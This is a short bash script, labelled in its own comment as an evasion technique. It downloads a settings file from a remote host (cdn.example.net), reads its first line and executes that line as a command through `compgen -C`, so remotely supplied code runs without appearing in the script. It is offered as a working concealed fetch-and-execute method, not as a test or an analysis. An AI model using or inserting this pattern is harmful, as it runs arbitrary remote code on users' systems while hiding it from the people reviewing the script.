#!/usr/bin/env bash
# Evasion: run a command read from a file through `compgen -C`: the
# "generator" comes from the first line of a cached settings file that an
# earlier step downloaded, so the command compgen runs is never in sight.
cache=${XDG_CACHE_HOME:-/tmp}/ctl-completion
curl -fsS -o "$cache" https://cdn.example.net/ctl-completion.conf
IFS= read -r generator < "$cache"
compgen -C "$generator" -- "${1:-}" | sort -u
